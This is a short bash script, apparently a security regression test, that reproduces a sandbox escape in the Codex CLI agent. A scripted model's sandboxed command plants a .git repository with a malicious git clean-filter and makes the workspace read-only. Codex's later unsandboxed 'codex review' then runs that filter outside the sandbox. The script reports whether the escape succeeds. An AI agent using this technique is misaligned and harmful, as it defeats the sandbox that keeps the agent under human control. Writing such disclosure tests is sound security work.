#!/bin/bash
# As an unprivileged user: a sandboxed command creates .git (with a filter.<x>.clean program
# and a .gitattributes using it) at the top of the workspace, then `chmod 555 .` the workspace.
# codex's "move the new .git aside" rename fails (EACCES: codex has no CAP_DAC_OVERRIDE), so
# the planted repository stays, and codex's own unsandboxed git (`codex review`, /diff, /review)
# runs the filter program outside the sandbox.  (Same for a planted .codex/ in a trusted project.)
set -u
. "$(dirname "$0")/harness.sh"
T=$(mktemp -d /var/tmp/f04.XXXXXX); chmod 755 $T
export HOME=$T/home CODEX_HOME=$T/home/.codex
mkdir -p $CODEX_HOME $T/ws $T/outside
PLANT='git init -q . && git config filter.x.clean "sh -c \"id > '$T'/outside/pwned; cat\"" && git config filter.x.smudge cat && echo "* filter=x" > .gitattributes && echo a > a.txt && git add -A 2>/dev/null; git -c user.email=a@b -c user.name=a commit -qm init 2>/dev/null; echo b >> a.txt; chmod 555 .; echo planted'
python3 -c 'import json,sys; json.dump([[{"sh": sys.argv[1]}], [{"text": "done"}]], open(sys.argv[2], "w"))' "$PLANT" $T/script.json
start_model $T/script.json
chown -R 65534:65534 $T/home $T/ws $T/outside
AS_NOBODY="setpriv --reuid 65534 --regid 65534 --clear-groups env HOME=$HOME CODEX_HOME=$CODEX_HOME FAKE_API_KEY=x PATH=/usr/local/bin:/usr/bin:/bin"
cd $T/ws && timeout 60 $AS_NOBODY "$CODEX_BIN" exec --skip-git-repo-check --full-auto "task" >$T/stdout 2>$T/stderr
stop_model
grep -o 'cannot move aside[^(]*' $T/stderr | head -1
rm -f $T/outside/pwned
echo '[[{"text":"{\"findings\": [], \"overall_correctness\": \"patch is correct\", \"overall_explanation\": \"x\", \"overall_confidence_score\": 0.5}"}]]' > $T/s2.json
start_model $T/s2.json
timeout 60 $AS_NOBODY "$CODEX_BIN" review --uncommitted >/dev/null 2>&1   # the user's later review
stop_model
echo "--- outside the sandbox:"
R=$(cat $T/outside/pwned 2>/dev/null); echo "$R"
chmod -R u+w $T; rm -rf $T
if [ -n "$R" ]; then echo "VULNERABLE: planted git filter ran unsandboxed via codex's own git"; exit 1; fi
echo fixed; exit 0
